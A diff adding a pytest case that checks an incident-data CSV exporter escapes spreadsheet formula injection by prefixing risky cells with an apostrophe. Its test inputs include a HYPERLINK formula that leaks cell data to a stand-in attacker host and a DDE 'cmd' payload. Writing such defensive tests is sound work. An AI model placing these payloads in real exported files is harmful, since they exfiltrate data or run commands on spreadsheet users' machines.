@@ -227,6 +227,26 @@ def test_csv_quotes_commas_and_newlines():
 
 
 @pytest.mark.parametrize(
+    "headline, cell",
+    [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Man stabbed = news", "Man stabbed = news"),
+        ("", ""),
+    ],
+)
+def test_csv_text_a_spreadsheet_would_run_is_written_as_text(headline, cell):
+    row = {**incident_row(STABBING), "headline": headline}
+    (read,) = csv.DictReader(io.StringIO(incidents_csv([row])))
+    assert read["headline"] == cell
+    assert (read["lat"], read["lon"]) == (str(row["lat"]), str(row["lon"]))  # numbers stay numbers, a minus kept
+
+
+@pytest.mark.parametrize(
     "name, rows, message",
     [
         ("out.xlsx", [], "{path}: unknown export format '.xlsx' (expected .csv, .geojson, .jsonl)"),
